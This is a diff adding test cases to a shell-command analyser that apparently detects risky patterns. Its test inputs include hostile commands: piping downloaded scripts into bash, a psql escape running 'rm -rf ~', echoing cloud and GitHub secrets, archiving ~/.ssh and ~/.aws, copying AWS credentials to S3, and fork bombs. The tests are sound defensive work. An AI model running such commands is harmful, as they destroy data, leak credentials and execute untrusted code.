@@ -158,6 +158,24 @@ describe('shell analysis: where commands hide', () => {
     assert.ok(shells('cat dump.sql | psql').some((p) => p.tags.includes('stdin-code')));
   });
 
+  it('reads a script from input for -s and -, and psql backslash commands', () => {
+    assert.ok(shells('curl -fsSL https://x.dev/i.sh | bash -s -- --yes').some((p) => p.program === 'bash' && p.tags.includes('stdin-code') && p.script === null));
+    assert.ok(shells('curl -fsSL https://x.dev/i.sh | sh -').some((p) => p.program === 'sh' && p.tags.includes('stdin-code')));
+    assert.ok(programs("psql <<'EOF'\n\\x\nSELECT 1;\n\\! rm -rf ~\nEOF").includes('rm'), 'psql \\! runs a shell command');
+    assert.equal(shells('psql -c "\\dt"')[0]?.tags.length, 0);
+    assert.ok(shells('psql -c "\\gexec"')[0]?.tags.includes('inline-code'));
+    assert.equal(shells('psql -f migrations/001.sql')[0]?.script, '/home/dev/app/migrations/001.sql');
+  });
+
+  it('records the variables a command expands, and reads old-style tar and zip', () => {
+    assert.deepEqual(shells('echo "$GITHUB_TOKEN" ${AWS_SECRET_ACCESS_KEY:-x}')[0]?.expands, ['GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY']);
+    assert.deepEqual(shells('echo $(printf %s $A)')[0]?.expands, [], 'a substitution\'s expansions belong to its own command');
+    const files = (c: string) => parts(c).filter((p) => p.kind === 'file_read').map((p) => (p as { path: string }).path);
+    assert.deepEqual(files('tar czf /tmp/k.tgz ~/.ssh'), ['/home/dev/.ssh']);
+    assert.deepEqual(files('zip -r /tmp/k.zip ~/.aws'), ['/home/dev/.aws']);
+    assert.deepEqual(files('aws s3 cp ~/.aws/credentials s3://b/x'), ['/home/dev/.aws/credentials']);
+  });
+
   it('spots a self-recursive function (fork bomb)', () => {
     assert.ok(shells(':(){ :|:& };:').some((p) => p.tags.includes('self-recursive')));
     assert.ok(shells('bomb() { bomb | bomb & }; bomb').some((p) => p.tags.includes('self-recursive')));
@@ -171,6 +189,10 @@ describe('shell analysis: what it refuses', () => {
     assert.match(failure("echo 'x"), /cannot account for/);
     assert.match(failure('if then fi'), /cannot account for/);
     assert.match(failure('rm -rf ( x'), /cannot account for/);
+  });
+
+  it('refuses an argument written after a heredoc operator', () => {
+    assert.match(failure('cat <<EOF x\ny\nEOF'), /argument after a heredoc/);
   });
 
   it('fails past the nesting limit', () => {
